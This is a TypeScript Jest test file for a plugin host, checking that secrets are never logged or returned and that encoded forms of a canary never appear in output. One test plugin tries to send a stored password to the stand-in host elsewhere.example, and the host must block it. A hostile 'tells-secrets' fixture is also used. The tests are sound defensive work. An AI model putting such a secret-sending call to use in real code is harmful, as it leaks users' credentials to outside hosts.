import { createHmac } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { buildPlugin, pluginCode } from './testing/build-plugin.js';
import { type FakeService, fakeService } from './testing/fake-service.js';
import { hostilePlugin } from './testing/hostile-plugin.js';
import { memorySession } from './testing/memory-session.js';
import { startTestHost, type TestHost } from './testing/test-host.js';

// Processes start slowly on a busy machine.
const CANARY = 'Canary/"秘密"+7f3a9c&=';
const API_KEY = 'key+4b1d/9a==';
const TOKEN = 'tok_5d41402abc4b2a76';

let test: TestHost;
let service: FakeService;
beforeAll(async () => {
  test = await startTestHost();
  service = await fakeService(({ url, headers, body }, response) => {
    const bytes = Buffer.from(CANARY);
    response.setHeader('x-secret', encodeURIComponent(CANARY));
    response.setHeader('content-type', 'application/json; charset=utf-8');
    const forms = ['base64', 'base64url', 'hex'].map((form) => bytes.toString(form as 'hex'));
    const inside = Buffer.from(`x${CANARY}y`).toString('base64');
    response.end(
      JSON.stringify({
        token: TOKEN,
        url,
        headers,
        body,
        forms,
        inside,
        plain: CANARY,
        escaped: JSON.stringify(CANARY),
      }),
    );
  });
});
afterAll(async () => {
  await test.host.stop();
  await service.stop();
});

const session = () =>
  memorySession({
    config: { server: service.origin },
    secrets: { password: CANARY, apiKey: API_KEY },
    allow: { http: ['{config.server}/*'], privateHosts: ['127.0.0.1'] },
  });

/** Every form in which somebody could read the canary or the token. */
const traces = [CANARY, API_KEY, TOKEN].flatMap((secret) => {
  const bytes = Buffer.from(secret);
  return [
    secret,
    encodeURIComponent(secret),
    JSON.stringify(secret).slice(1, -1),
    JSON.stringify(JSON.stringify(secret)).slice(3, -3),
    bytes.toString('base64').replace(/=+$/, ''),
    bytes.toString('base64url'),
    bytes.toString('hex'),
    Buffer.from(`user:${secret}`).toString('base64'),
  ];
});

describe('G5: secrets are never logged or returned', () => {
  it('the service gets them, and nothing that comes back holds them in any form', async () => {
    const release = await hostilePlugin('tells-secrets');
    const checked = session();
    const failed = await test.host.check(release, checked);
    expect(failed).toMatchObject({ ok: false, failure: { kind: 'error' } });
    const sent = session();
    const to = [{ person: 'a', name: 'a', address: 'a' }];
    const content = { title: 't', markdown: 'm', language: 'en' as const };
    const answered = await test.host.send(release, 'chat', sent, { key: 'k', to, content, params: {} });
    expect(answered).toMatchObject({ ok: true, value: [{ status: 'rejected' }] });

    const heard = JSON.stringify(service.heard);
    expect(service.heard[0]?.headers.authorization).toBe(`Bearer ${API_KEY}`);
    expect(new URL(service.heard[0]?.url ?? '', service.origin).searchParams.get('key')).toBe(CANARY);
    expect(JSON.parse(service.heard[0]?.body ?? '')).toEqual({ deep: [{ secret: CANARY }] });
    expect(heard).toContain(Buffer.from(`user:${CANARY}`).toString('base64'));

    const seen = JSON.stringify([failed, answered, checked.logged, [...checked.values], sent.logged, test.lines]);
    expect(checked.logged.length).toBeGreaterThan(0);
    expect(checked.values.size).toBe(1);
    expect(seen).toContain('***');
    for (const trace of traces) expect(seen).not.toContain(trace);
    // The token of the answer was sealed on its way.
    expect([...checked.secrets.values()].map((bytes) => Buffer.from(bytes).toString())).toContain(TOKEN);
  });

  it('no secret goes to a host that the permissions do not name', async () => {
    const release = await buildPlugin({
      code: pluginCode(
        `check: async (ctx) => { await ctx.http({ method: 'GET', url: 'https://elsewhere.example/', query: { key: ctx.secret('password') } }); }`,
      ),
    });
    const called = await test.host.check(release, session());
    expect(called).toMatchObject({ ok: false, failure: { kind: 'error' } });
    expect(called.ok ? '' : called.failure.message).toMatch(/permissions/);
  });

  it('signs and encrypts by reference', async () => {
    const release = await buildPlugin({
      code: pluginCode(`check: async (ctx) => {
        const bytes = new TextEncoder().encode('text to sign'); const iv = new Uint8Array(16);
        const signature = await ctx.crypto.hmac('sha1', ctx.secret('password'), bytes, '&');
        const sealed = await ctx.crypto.aesCbc('encrypt', ctx.secret('key'), iv, bytes);
        const opened = await ctx.crypto.aesCbc('decrypt', ctx.secret('key'), iv, sealed);
        return { verdict: 'ok', messages: [{ en: Buffer.from(signature).toString('base64') }, { en: new TextDecoder().decode(opened) }] };
      }`),
    });
    const keyed = memorySession({ secrets: { password: CANARY, key: '0123456789abcdef0123456789abcdef' } });
    const signature = createHmac('sha1', `${CANARY}&`).update('text to sign').digest('base64');
    expect(await test.host.check(release, keyed)).toMatchObject({
      ok: true,
      value: { messages: [{ en: signature }, { en: 'text to sign' }] },
    });
  });

  it('a token is fetched once for all who ask at the same time', async () => {
    const release = await buildPlugin({
      code: pluginCode(`check: async (ctx) => {
        const token = await ctx.token('access', async () => {
          const { kept } = await ctx.http({ method: 'GET', url: ctx.config.server + '/token', keep: { token: 'token' } });
          return { secret: kept.token, expiresInSeconds: 7200 };
        });
        return { verdict: 'ok', messages: [{ en: token.$secret }] };
      }`),
    });
    const shared = session();
    const before = service.heard.length;
    const called = await Promise.all(Array.from({ length: 10 }, () => test.host.check(release, shared)));
    expect(called.every(({ ok }) => ok)).toBe(true);
    expect(service.heard.length - before).toBe(1);
  });

  it('an integration whose secrets cannot be read is not called at all', async () => {
    const release = await hostilePlugin('tells-secrets');
    const lost = session();
    lost.secrets.clear();
    const before = service.heard.length;
    expect(await test.host.check(release, lost)).toMatchObject({ ok: false, failure: { kind: 'refused' } });
    expect(service.heard.length).toBe(before);
  });
});
